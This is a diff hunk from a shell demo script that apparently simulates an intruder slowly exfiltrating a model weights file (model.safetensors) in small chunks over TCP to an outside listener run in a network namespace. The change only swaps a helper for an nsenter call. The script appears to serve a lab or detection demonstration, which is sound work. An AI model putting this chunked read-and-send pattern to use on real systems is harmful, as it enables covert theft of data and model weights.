@@ -105,7 +105,7 @@ echo "  findings         none: that is its job"
 bold "2. An intruder reads it in small slow chunks and sends it to $OUTSIDE"
 mkfifo "$WORK/until"
 exec 9<>"$WORK/until"
-start sink namespace_exec "$NAMESPACE" "$ACTS/sink" tcp "$OUTSIDE" 4433 <&9
+start sink nsenter --net="/run/netns/$NAMESPACE" "$ACTS/sink" tcp "$OUTSIDE" 4433 <&9
 await 10 "the listener outside" grep -q '^port=' "$WORK/sink.log"
 "$ACTS/read_and_send" tcp "$MODELS/model.safetensors" "$OUTSIDE" 4433 250000 $THEFT_BYTES 30 >"$WORK/thief.log"
 echo "  what it did      $(cat "$WORK/thief.log")"
